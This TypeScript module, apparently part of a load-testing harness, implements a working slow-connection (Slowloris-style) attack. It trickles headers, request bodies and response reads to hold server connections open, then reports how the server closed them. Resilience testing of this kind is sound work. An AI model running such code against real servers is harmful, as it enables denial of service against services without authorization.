import { connect, type Socket } from "node:net";
import type { SeededRandom } from "@forecourt/harness";

/** How somebody is slow: with the headers, with the body, or in taking the answers. */
export const slownesses = ["headers", "body", "reading"] as const;
export type Slowness = (typeof slownesses)[number];

/** What became of the connections of one kind. */
export interface SlowFigures {
  opened: number;
  closed: number;
  /** From its opening until the server closed it, of the one that was left open for longest. */
  longestMs: number;
  /** How often each status was the last one that came; "none" where there was none. */
  endings: Record<string, number>;
}

export type SlowReport = Record<Slowness, SlowFigures>;

export interface SlowAttack {
  report(): SlowReport;
  stop(): Promise<void>;
}

const everyMs = 1_000;
/** They come one after the other: what a thousand handshakes at once cost is another question. */
const openedPerSecond = 100;
/** Before another one is opened in the place of one that was closed. */
const afterMs = 250;
/** As many as may be sent ahead: far more than fits into what the two kernels keep. */
const answersAsked = 30;

/**
 * Keeps so many connections open, a third of each kind, and opens another one for each that the server closes. The
 * `key` is one that works, so that bodies are read.
 */
export function attackSlowly(
  target: { url: string; key: string },
  connections: number,
  random: SeededRandom,
): SlowAttack {
  const { hostname, port } = new URL(target.url);
  const figures: SlowReport = { headers: none(), body: none(), reading: none() };
  const open = new Map<Socket, Promise<unknown>>();
  let stopped = false;

  const begin: Record<Slowness, (socket: Socket) => void> = {
    headers: (socket) => void socket.write("GET /v1/me HTTP/1.1\r\nHost: a\r\nX-Slow: "),
    body: (socket) =>
      void socket.write(
        `POST /v1/locations HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${target.key}\r\n` +
          "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{",
      ),
    reading(socket) {
      socket.write("GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n".repeat(answersAsked));
    },
  };

  function keepOpen(kind: Slowness): void {
    if (stopped) return;
    const socket = connect(Number(port), hostname);
    let startedAt = performance.now();
    let timer: NodeJS.Timeout | undefined;
    let received = "";
    figures[kind].opened += 1;
    if (kind === "reading") socket.on("readable", () => {});
    else {
      socket.on("data", (chunk: Buffer) => {
        received = (received + chunk.toString("latin1")).slice(-4_000);
      });
    }
    socket.on("error", () => {});
    socket.once("connect", () => {
      startedAt = performance.now();
      begin[kind](socket);
      const dawdle = () => {
        if (kind === "reading") socket.read(1);
        else if (socket.writable) socket.write(kind === "body" ? " " : "a");
      };
      timer = setInterval(dawdle, everyMs * (0.75 + random.next() / 2));
    });
    open.set(
      socket,
      new Promise<void>((resolve) => {
        socket.once("close", () => {
          clearInterval(timer);
          open.delete(socket);
          resolve();
          if (stopped) return;
          const { endings, longestMs } = figures[kind];
          const status = /HTTP\/1\.1 (\d{3}) (?![\s\S]*HTTP\/1\.1 )/.exec(received)?.[1] ?? "none";
          endings[status] = (endings[status] ?? 0) + 1;
          figures[kind].closed += 1;
          figures[kind].longestMs = Math.max(longestMs, performance.now() - startedAt);
          setTimeout(keepOpen, afterMs, kind);
        });
      }),
    );
    // Who has left unread what came hears of the end only once it is read.
    if (kind === "reading") socket.once("end", () => socket.destroy());
  }

  let begun = 0;
  const opening = setInterval(() => {
    keepOpen(slownesses[begun % slownesses.length] ?? "headers");
    if (++begun >= connections || stopped) clearInterval(opening);
  }, 1_000 / openedPerSecond);
  return {
    report: () => structuredClone(figures),
    async stop() {
      stopped = true;
      const ended = [...open.values()];
      for (const socket of open.keys()) socket.destroy();
      await Promise.all(ended);
    },
  };
}

function none(): SlowFigures {
  return { opened: 0, closed: 0, longestMs: 0, endings: {} };
}
